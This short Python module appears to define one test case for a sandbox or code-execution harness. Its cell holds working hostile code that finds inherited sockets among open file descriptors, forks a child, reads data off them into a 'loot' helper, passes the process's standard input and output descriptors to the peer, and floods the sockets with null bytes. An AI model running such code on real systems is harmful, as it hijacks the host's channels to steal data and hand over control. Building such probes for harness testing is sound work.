"""The socket is found among the descriptors, lent to a child, and made to carry open files."""

CATEGORY = "wire"
LONG = True
CELLS = {
    "label": """
import os, socket, stat, time

def lines():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass

found = list(lines())
if os.fork() == 0:
    until = time.monotonic() + 5
    while time.monotonic() < until:
        for line in found:
            try:
                line.setblocking(False)
                loot(line.recv(4096).hex())
                socket.send_fds(line, [b"x"], [0, 1, 2])
                line.send(b"\\0" * 64)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
"""
}
